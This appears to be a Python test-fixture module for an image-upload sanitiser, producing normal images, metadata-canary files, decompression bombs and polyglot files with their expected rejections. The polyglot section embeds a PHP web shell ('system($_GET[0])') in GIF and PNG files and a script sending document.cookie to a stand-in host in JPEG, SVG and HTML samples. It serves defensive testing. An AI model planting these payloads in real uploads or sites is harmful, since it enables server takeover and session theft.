"""Pictures: ordinary ones, ones that carry what must not go on, and ones that mean harm."""

import io
import random
import struct
import zipfile
import zlib
from typing import Any

import pillow_heif
from PIL import Image, ImageDraw, PngImagePlugin

PNG_HEAD = b"\x89PNG\r\n\x1a\n"


def photo(size: tuple[int, int] = (640, 480), seed: int = 1) -> Image.Image:
    """Coloured clouds with an edge or two: packs like a photograph."""
    small = (max(1, size[0] // 16), max(1, size[1] // 16))
    clouds = Image.frombytes("RGB", small, random.Random(seed).randbytes(small[0] * small[1] * 3))
    picture = clouds.resize(size, Image.Resampling.BICUBIC)
    ImageDraw.Draw(picture).rectangle((size[0] // 4, size[1] // 4, size[0] // 2, size[1] // 2), fill="#e5dfd2")
    return picture


def saved(picture: Image.Image, fmt: str = "JPEG", **extra: Any) -> bytes:
    target = io.BytesIO()
    if fmt == "HEIF":
        pillow_heif.from_pillow(picture).save(target, **extra)
    else:
        picture.save(target, fmt, **extra)
    return target.getvalue()


def exif_of(canary: str, orientation: int = 1) -> Image.Exif:
    """A camera's notes: description, owner, place, and a small copy of the picture."""
    exif = Image.Exif()
    exif[0x010E], exif[0x013B], exif[0x0112] = canary, canary, orientation
    exif[0x8825] = {1: "S", 2: (7.0, 34.0, 0.0), 29: canary}
    exif[0x8769] = {0x9286: b"ASCII\0\0\0" + canary.encode(), 0xA430: canary}
    return exif


def telling(fmt: str, canary: str) -> bytes:
    """A picture of this format with the canary in every place where its format keeps words."""
    picture, note = photo((320, 240)), canary.encode()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><d>' + note + b"</d></x:xmpmeta>"
    exif = exif_of(canary)
    if fmt == "JPEG":
        return saved(picture, exif=exif, xmp=xmp, comment=note, icc_profile=b"\0" * 128 + note) + note
    if fmt == "MPO":
        return saved(picture, "MPO", save_all=True, append_images=[photo((320, 240), 2)], exif=exif) + note
    if fmt == "PNG":
        words = PngImagePlugin.PngInfo()
        words.add_text("Comment", canary)
        words.add_text("Author", canary, zip=True)
        words.add_itxt("XML:com.adobe.xmp", xmp.decode(), zip=False)
        words.add_itxt("Description", canary, zip=True)
        whole = saved(picture, "PNG", pnginfo=words, exif=exif, icc_profile=b"\0" * 128 + note)
        return whole + note
    if fmt == "WEBP":
        return saved(picture, "WEBP", exif=exif, xmp=xmp, icc_profile=b"\0" * 128 + note)
    return saved(picture, "HEIF", exif=exif.tobytes(), xmp=xmp, quality=60)


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_that_says(width: int, height: int, *chunks: bytes) -> bytes:
    """A PNG of a few hundred bytes that says how large it is."""
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = png_chunk(b"IDAT", zlib.compress(b"\0" * 1000))
    return PNG_HEAD + head + b"".join(chunks) + body + png_chunk(b"IEND", b"")


def jpeg_that_says(width: int, height: int) -> bytes:
    """A small JPEG whose head was changed to another size."""
    whole = bytearray(saved(photo((32, 32))))
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(whole)


def webp_that_says(width: int, height: int) -> bytes:
    """A WebP whose canvas was changed to another size."""
    whole = bytearray(saved(photo((32, 32)), "WEBP", exif=exif_of("x")))
    whole[24:30] = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return bytes(whole)


def bombs() -> dict[str, bytes]:
    """Small files that would like to be large."""
    big_text = zlib.compress(b"a" * 60_000_000, 9)
    return {
        "PNG of 60,000 x 60,000": png_that_says(60_000, 60_000),
        "PNG of 40,000,001 pixels": png_that_says(40_000_001, 1),
        "PNG whose rows never come": png_that_says(6_000, 6_000),
        "PNG with a text of 60 MB": png_that_says(8, 8, png_chunk(b"zTXt", b"k\0\0" + big_text)),
        "PNG with a colour profile of 60 MB": png_that_says(8, 8, png_chunk(b"iCCP", b"k\0\0" + big_text)),
        "JPEG of 65,500 x 65,500": jpeg_that_says(65_500, 65_500),
        "JPEG that ends too early": jpeg_that_says(6_000, 6_000),
        "WebP of 16,383 x 16,383": webp_that_says(16_383, 16_383),
        "picture 20,001 wide": saved(Image.new("L", (20_001, 2)), "PNG"),
    }


def moving(fmt: str) -> bytes:
    frames = [Image.new("RGB", (32, 32), colour) for colour in ("red", "blue")]
    return saved(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100)


def zipped(name: str = "a.txt", body: bytes = b"x") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as pack:
        pack.writestr(name, body)
    return target.getvalue()


def polyglots() -> dict[str, tuple[bytes, str]]:
    """Files of two natures, and the refusal that each gets."""
    gif, jpeg, png = saved(photo((32, 32)), "GIF"), saved(photo()), saved(photo((32, 32)), "PNG")
    script = b"<script>fetch('//jahat.example/'+document.cookie)</script>"
    return {
        "GIF and Java archive": (gif + zipped("META-INF/MANIFEST.MF"), "unreadable"),
        "PHP in a GIF": (b"GIF89a/*<?php system($_GET[0]); ?>*/", "unreadable"),
        "PHP behind a GIF": (gif + b"<?php system($_GET[0]); ?>", "unreadable"),
        "page behind a JPEG": (jpeg + b"<html>" + script, "two_kinds"),
        "page in the comment of a JPEG": (saved(photo((32, 32)), comment=b"<!DOCTYPE html>" + script), "two_kinds"),
        "archive behind a PNG": (png + zipped(), "two_kinds"),
        "archive behind a JPEG": (jpeg + zipped(), "two_kinds"),
        "PHP behind a PNG": (png + b"<?php system($_GET[0]); ?>", "two_kinds"),
        "PDF inside a JPEG": (saved(photo((32, 32)), comment=b"%PDF-1.4\n1 0 obj"), "two_kinds"),
        "drawing with a script": (b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>", "unreadable"),
        "program": (b"MZ" + b"\0" * 200, "unreadable"),
        "program of Linux": (b"\x7fELF" + b"\0" * 200, "unreadable"),
        "page": (b"<html>" + script, "unreadable"),
    }


def seeds() -> dict[str, bytes]:
    """Small sound pictures that are then damaged."""
    small = photo((96, 72), 7)
    return {
        "jpeg": saved(small, exif=exif_of("seed", 6), comment=b"c"),
        "progressive jpeg": saved(small, progressive=True, subsampling=0),
        "mpo": saved(small, "MPO", save_all=True, append_images=[photo((96, 72), 8)]),
        "png": saved(small, "PNG", exif=exif_of("seed")),
        "png of a palette": saved(small.quantize(16), "PNG", transparency=3),
        "png see-through": saved(small.convert("RGBA"), "PNG"),
        "png of 16 bits": saved(Image.new("I;16", (96, 72), 40_000), "PNG"),
        "webp": saved(small, "WEBP", exif=exif_of("seed")),
        "webp lossless": saved(small.convert("RGBA"), "WEBP", lossless=True),
        "heic": saved(small, "HEIF", quality=50, exif=exif_of("seed").tobytes()),
    }
